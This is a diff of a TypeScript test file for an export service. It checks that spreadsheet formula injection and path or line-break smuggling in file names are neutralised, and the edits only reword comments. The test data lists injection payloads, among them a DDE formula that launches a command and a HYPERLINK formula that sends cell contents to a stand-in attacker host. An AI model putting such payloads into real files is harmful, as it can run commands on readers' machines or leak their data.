@@ -1,4 +1,4 @@
-// Fault 23: text that a spreadsheet would run, in cells and headers; paths and line breaks in what could become a file name.
+// Fault 23: formulas in cells and headers, and paths or line breaks in texts that could become part of a file name.
 import { mkdtemp, rm, writeFile } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -9,12 +9,12 @@ import { readXlsx } from '../../unit/formats/read-xlsx.ts'
 import { type Chaos, startChaos } from '../setup/chaos.ts'
 import type { Api } from '../setup/deployment.ts'
 
-/** What Excel, LibreOffice or Sheets would run or take for a formula (OWASP, "CSV Injection"). */
+/** Text that Excel, LibreOffice or Google Sheets would run as a formula (OWASP, "CSV Injection"). */
 const RUNS = [
   ...[`=cmd|' /C calc'!A0`, '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＠A1'],
   ...['=HYPERLINK("https://evil.example/?"&A1,"x")', '=1+1\r\n=2+2', '"=1+1', ';=1+1'],
 ]
-/** They begin with what is read as a formula; the other two hide one behind a quote or another delimiter. */
+/** The texts that start a formula. The other two hide one behind a quote or another delimiter. */
 const STARTS_AS_FORMULA = /^[=+\-@\t\r\n\0＝＋－＠]/
 const PLAIN = ['ordinary', '12-34', 'a=b', '']
 const HEADER = `=cmd|' /C calc'!A0`
@@ -66,7 +66,7 @@ const DATASET = {
   orderBy: ['u.created_at', 'u.id'],
 }
 
-/** By its link, with the name that a browser would give it. */
+/** Downloads the file, and returns it with the name that a browser would use. */
 async function file(api: Api, request: Json): Promise<{ bytes: Buffer; ids: string[] }> {
   const { status, download, filename, ...done } = await api.admin.export(request)
   expect(status, JSON.stringify(done.error)).toBe('completed')
@@ -76,7 +76,7 @@ async function file(api: Api, request: Json): Promise<{ bytes: Buffer; ids: stri
   return { bytes: Buffer.from(await response.arrayBuffer()), ids: [done.id] }
 }
 
-/** Nothing that a caller sends becomes a part of a path, a header or a name. */
+/** No text of a caller becomes part of a path, a header or a file name. */
 async function expectHarmlessNames(chaos: Chaos, api: Api): Promise<void> {
   const post = (request: Json) => api.admin.post('/v1/exports', { dataset: 'users', format: 'csv', ...request })
   const before = await chaos.client.query('SELECT count(*)::int AS count FROM waybill.exports')
